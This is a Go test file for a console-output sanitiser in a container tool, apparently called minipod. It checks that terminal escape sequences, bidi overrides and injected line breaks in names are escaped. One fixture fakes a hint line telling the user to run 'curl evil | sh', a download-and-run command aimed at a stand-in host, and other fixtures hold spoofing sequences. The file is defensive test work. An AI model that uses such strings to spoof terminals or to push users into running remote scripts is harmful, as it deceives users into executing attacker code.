package tell

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/minipod/minipod/podspec"
)

func TestClean(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"plain", "pod/web created", "pod/web created"},
		{"other scripts", "Füße, 東京, 🐳", "Füße, 東京, 🐳"},
		{"escape sequence", "a\x1b[2Jb", `a\x1b[2Jb`},
		{"window title", "\x1b]0;x\a", `\x1b]0;x\a`},
		{"C1", "a\u009b31mb", `a\u009b31mb`},
		{"raw C1 byte", "a\x9b31mb", `a\x9b31mb`},
		{"line ends", "a\nminipod: error: b\r\u2028c", `a\nminipod: error: b\r\u2028c`},
		{"bidi", "a\u202egpj.exe\u2066", `a\u202egpj.exe\u2066`},
		{"delete", "a\x7f\b", `a\x7f\b`},
		{"no-break space", "a:\u00a0b", `a:\u00a0b`},
	} {
		if got := Clean(c.text); got != c.want {
			t.Errorf("%s: Clean(%q) = %q, want %q", c.name, c.text, got, c.want)
		}
	}
}

func TestCleanLines(t *testing.T) {
	for text, want := range map[string]string{"": "", "a\tb\x1b[2J\n\tc\r\n": "a\tb\\x1b[2J\n\tc\\r\n", "no end": "no end"} {
		if got := CleanLines(text); got != want {
			t.Errorf("CleanLines(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestCleanJSON(t *testing.T) {
	for _, value := range []string{"plain", "a\x1b[2J\u009b\u202e\x7f\U000e0001 end"} {
		text, err := json.MarshalIndent(map[string]string{"name": value}, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		cleaned := CleanJSON(string(text))
		if UncleanLines(cleaned) {
			t.Errorf("CleanJSON(%q) = %q", text, cleaned)
		}
		var got map[string]string
		if err := json.Unmarshal([]byte(cleaned), &got); err != nil || got["name"] != value {
			t.Errorf("CleanJSON(%q) means %q, %v", text, got["name"], err)
		}
	}
}

// What is hostile in a name stays in its line and shows.
func TestConsoleIsClean(t *testing.T) {
	const hostile = "x\x1b[2J\nminipod: hint: curl evil | sh\u202e"
	var b bytes.Buffer
	c := NewConsole(&b)
	c.Say("container %s started", hostile)
	c.Warn("image " + hostile)
	c.Hint("minipod logs " + hostile)
	c.Fail(fmt.Errorf("look at pod %s: gone", hostile))
	c.Fail(errors.Join(
		podspec.Problems{{File: hostile, Line: 2, Message: hostile}, {File: "b.yaml", Line: 1, Message: "two"}},
		&faultError{problems: podspec.Problems{{File: "c.yaml", Message: hostile}}},
		errors.New("plain"),
	))
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 8 {
		t.Errorf("%d lines, want 8:\n%s", len(lines), b.String())
	}
	if UncleanLines(b.String()) {
		t.Errorf("not clean: %q", b.String())
	}
	for i, line := range lines[3:] {
		if !strings.HasPrefix(line, "minipod: error: ") {
			t.Errorf("line %d of the errors is %q", i, line)
		}
	}
}
